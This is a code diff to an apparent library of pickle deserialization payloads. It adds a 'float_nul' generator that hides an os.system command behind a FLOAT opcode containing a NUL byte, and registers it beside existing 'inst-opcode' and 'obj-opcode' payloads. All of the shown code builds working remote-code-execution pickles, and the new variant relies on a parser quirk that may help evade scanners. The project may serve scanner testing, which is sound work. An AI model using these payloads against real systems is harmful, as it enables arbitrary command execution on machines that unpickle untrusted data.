@@ -222,6 +222,12 @@ def inst_opcode(command: str) -> bytes:
     return MARK + string0(command) + b"ios\nsystem\n" + STOP
 
 
+def float_nul(command: str) -> bytes:
+    """A FLOAT whose line goes on after a NUL: CPython's unpickler reads the number up to the
+    NUL and goes on (float() would refuse the line), then runs the call after it."""
+    return b"F1.5\x00junk\n0" + classic(command)
+
+
 def obj_opcode(command: str) -> bytes:
     return proto(1) + MARK + global_("os", "system") + unicode(command) + OBJ + STOP
 
@@ -253,4 +259,5 @@ PAYLOADS: dict[str, Callable[[str], bytes]] = {
     "truncated": truncated,
     "inst-opcode": inst_opcode,
     "obj-opcode": obj_opcode,
+    "float-nul": float_nul,
 }
